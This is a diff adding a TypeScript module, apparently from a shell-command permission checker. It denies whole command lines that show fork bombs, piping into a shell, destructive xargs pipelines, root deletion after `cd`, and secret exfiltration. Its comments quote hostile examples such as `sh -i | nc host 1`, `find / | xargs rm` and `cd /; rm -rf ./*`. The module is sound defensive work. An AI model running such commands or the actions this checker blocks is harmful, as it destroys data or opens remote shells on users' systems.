@@ -1,0 +1,99 @@
+/** The floor of a whole line: what no command of it shows by itself. */
+import { posix } from 'node:path';
+import type { Command } from '../command/command.js';
+import type { Claim } from './claim.js';
+import { denial, hasNeeded, touchesRoot, wrapsOne } from './floor.js';
+import { type FloorEntry, floor, speaksOf } from './floor-entries.js';
+import { baseName, findCommand, flatten } from './floor-names.js';
+import { meansFolder } from './floor-roots.js';
+import { leakingSender } from './floor-secrets.js';
+import { isForkBomb, pipesShell } from './floor-shells.js';
+
+function matters(command: Command): boolean {
+  const name = baseName(command) ?? '';
+  return (speaksOf(name) && floor().lineNames.has(name)) || command.inner.some(matters);
+}
+
+/** Adds floor denials that only a whole line shows: fork bombs, pipelines, changes of directory, secrets on their way out. */
+export function lineFloor(source: string, commands: readonly Command[], home: string, into: Claim[]): void {
+  if (source.includes('{') && (source.includes('|') || source.includes('&'))) {
+    for (const entry of floor().forkBombs) {
+      if (isForkBomb(source, commands))
+        into.push({ effect: 'deny', rule: null, reason: { code: entry.id, message: `this line ${entry.why}` } });
+    }
+  }
+  if (!commands.some(matters)) return;
+  for (let at = 1; at < commands.length; at += 1) if (commands[at]?.invocation.piped) pipelineFloor(commands, at, home, into);
+  directoryFloor(commands, home, into);
+  for (const { entry, lists } of floor().exfiltrations) {
+    const sender = leakingSender(commands, lists, floor().roots, home);
+    if (sender !== null) into.push(denial(entry, sender));
+  }
+}
+
+/** `find / | xargs rm`, `sh -i | nc host 1`: what the command at `at` gets from those before it in its pipeline. */
+function pipelineFloor(commands: readonly Command[], at: number, home: string, into: Claim[]): void {
+  const command = commands[at];
+  const before = commands[at - 1];
+  if (command === undefined || before === undefined) return;
+  for (const entry of floor().shellEntries) if (pipesShell(before, command, entry)) into.push(denial(entry, command));
+  if (command.inner.length === 0) return;
+  for (const entry of floor().rootEntries) {
+    if (wrapsAppended(entry, command) && feedsRoot(entry, commands, at - 1, home)) into.push(denial(entry, command));
+  }
+}
+
+/** `xargs rm`, `sudo xargs chmod -R 777`. */
+function wrapsAppended(entry: FloorEntry, command: Command): boolean {
+  const destroys = (inner: Command) => {
+    const name = baseName(inner);
+    if (!inner.appended || name === null || !entry.commands?.includes(name)) return false;
+    return hasNeeded(entry, name, inner.invocation.argv.slice(1));
+  };
+  return findCommand(command.inner, destroys) !== null;
+}
+
+/** `find /` or `echo ~`, also behind `| sort`; not when find chooses by name, age or size. */
+function feedsRoot(entry: FloorEntry, commands: readonly Command[], from: number, home: string): boolean {
+  let at = from;
+  while (at > 0 && commands[at]?.invocation.piped && entry.carriers?.includes(baseNameAt(commands, at))) at -= 1;
+  const producer = commands[at];
+  if (producer === undefined || !entry.producers?.includes(baseNameAt(commands, at))) return false;
+  const words = producer.invocation.argv.slice(1);
+  if (words.some((word) => entry.filters?.includes(word.value ?? ''))) return false;
+  return words.some((word) => meansFolder(word, floor().folders.get(entry) ?? floor().roots, { home, directory: null }));
+}
+
+function baseNameAt(commands: readonly Command[], at: number): string {
+  const command = commands[at];
+  return command === undefined ? '' : (baseName(command) ?? '');
+}
+
+/** `cd /; rm -rf ./*`: where the directory cannot be told for certain, every root that an earlier `cd` names is taken for it. */
+function directoryFloor(commands: readonly Command[], home: string, into: Claim[]): void {
+  if (findCommand(commands, changesDirectory) === null) return;
+  const entered: string[] = [];
+  for (const command of flatten(commands)) {
+    if (changesDirectory(command)) entered.push(...rootsEntered(command, home));
+    const name = baseName(command);
+    if (entered.length === 0 || command.invocation.directory !== null || name === null) continue;
+    const words = command.invocation.argv.slice(1);
+    for (const entry of floor().byCommand.get(name) ?? []) {
+      if (entry.kind !== 'operand-root' || !(hasNeeded(entry, name, words) || wrapsOne(entry, command))) continue;
+      if (entered.some((directory) => touchesRoot(entry, name, words, { home, directory }))) into.push(denial(entry, command));
+    }
+  }
+}
+
+function changesDirectory(command: Command): boolean {
+  const name = command.invocation.argv[0]?.value;
+  return name === 'cd' || name === 'pushd';
+}
+
+/** The root that a `cd` goes to: one of the folders, or the home (also by a bare `cd`); empty for all others. */
+function rootsEntered(command: Command, home: string): readonly string[] {
+  const operand = command.invocation.argv.slice(1).find((word) => !word.text.startsWith('-'));
+  if (operand === undefined) return [home];
+  if (!meansFolder(operand, floor().roots, { home, directory: null })) return [];
+  return operand.value?.startsWith('/') ? [posix.normalize(operand.value)] : [home];
+}
